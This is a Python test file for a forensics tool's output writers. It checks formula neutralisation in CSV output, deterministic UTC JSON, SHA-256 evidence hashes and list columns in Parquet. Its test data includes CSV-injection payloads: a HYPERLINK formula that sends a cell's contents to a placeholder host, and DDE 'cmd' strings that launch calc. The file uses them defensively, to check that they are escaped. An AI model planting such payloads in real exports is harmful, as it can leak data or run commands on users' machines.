"""Output writers: formula neutralisation, deterministic JSON, custody hashes."""

from __future__ import annotations

import hashlib

import numpy as np
import pandas as pd

from labforensics.custody import EvidenceFile, hash_outputs, sha256_file
from labforensics.outputs import json_safe, neutralise_frame, write_csv, write_json, write_parquet
from labforensics.schema import STRING_LIST, join_list


def test_text_cells_starting_with_formula_characters_are_prefixed():
    df = pd.DataFrame(
        {
            "account": [
                '=HYPERLINK("http://x.example/?"&A1;"ok")',
                "@SUM(1+1)",
                "+33 2 99",
                "-5.2",
                "ok",
                "-2+3+cmd|' /C calc'!A0",
                "+33612345616",
                "+33 (0)6 12 34 56 16",
            ],
            "score": [-5.2, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0],
        }
    )
    out = neutralise_frame(df)
    assert out["account"].tolist() == [
        '\'=HYPERLINK("http://x.example/?"&A1;"ok")',
        "'@SUM(1+1)",
        # a signed plain number is no formula: written as recorded (QA session 9: a phone
        # came back from reidentify as '+33612345616, the quote inside the data)
        "+33 2 99",
        "-5.2",
        "ok",
        "'-2+3+cmd|' /C calc'!A0",  # an operator and a pipe: a formula, prefixed
        "+33612345616",
        "+33 (0)6 12 34 56 16",
    ]
    assert out["score"].dtype == np.float64 and out["score"].iloc[0] == -5.2  # numbers stay numbers


def test_tab_and_carriage_return_prefixes_are_neutralised(tmp_path):
    p = write_csv(pd.DataFrame({"x": ["\tcmd", "\rcmd", "a"]}), tmp_path / "q.csv")
    lines = p.read_text(encoding="utf-8").splitlines()
    assert lines[1] == "'\tcmd"
    assert lines[0] == "x"


def test_json_is_deterministic_and_utc(tmp_path):
    obj = {"b": 1.23456789, "a": pd.Timestamp("2019-07-01 02:10", tz="Europe/Paris"), "n": np.nan}
    p1 = write_json(obj, tmp_path / "1.json")
    p2 = write_json(dict(reversed(list(obj.items()))), tmp_path / "2.json")
    assert p1.read_bytes() == p2.read_bytes()  # key order does not matter
    # 02:10 CEST (UTC+2) is 00:10 UTC
    assert json_safe(obj)["a"] == "2019-07-01T00:10:00Z"
    assert json_safe(obj)["n"] is None


def test_sha256_and_output_hashes(tmp_path):
    f = tmp_path / "e.csv"
    f.write_bytes(b"abc")
    digest, size = sha256_file(f)
    assert digest == hashlib.sha256(b"abc").hexdigest() and size == 3
    (tmp_path / "manifest.json").write_text("{}")
    rows = hash_outputs(tmp_path, exclude=("manifest.json",))
    assert [r["path"] for r in rows] == ["e.csv"]
    assert EvidenceFile.hash(f, "e.csv").sha256 == digest


def _list_frame() -> pd.DataFrame:
    hosts = pd.Series([["pc-1", "pc-2"], [], None, ["=cmd|x"]], dtype=STRING_LIST)
    return pd.DataFrame({"session_id": ["a", "b", "c", "d"], "hosts": hosts})


def test_list_columns_round_trip_through_parquet(tmp_path):
    # list cells stay lists in Parquet; pandas can read the file back (pandas#57411 avoided)
    p = write_parquet(_list_frame(), tmp_path / "s.parquet")
    plain = pd.read_parquet(p)
    assert [None if v is None else list(v) for v in plain["hosts"]] == [
        ["pc-1", "pc-2"], [], None, ["=cmd|x"]
    ]  # fmt: skip
    arrow = pd.read_parquet(p, dtype_backend="pyarrow")
    assert arrow["hosts"].tolist()[0] == ["pc-1", "pc-2"]


def test_list_columns_are_joined_only_in_text_outputs(tmp_path):
    # CSV is a text edge: items joined by " | ", empty list -> empty cell, formulas neutralised
    p = write_csv(_list_frame(), tmp_path / "s.csv")
    lines = p.read_text(encoding="utf-8").splitlines()
    assert lines == ["session_id,hosts", "a,pc-1 | pc-2", "b,", "c,", "d,'=cmd|x"]
    assert join_list(_list_frame()["hosts"]).tolist()[:2] == ["pc-1 | pc-2", pd.NA]
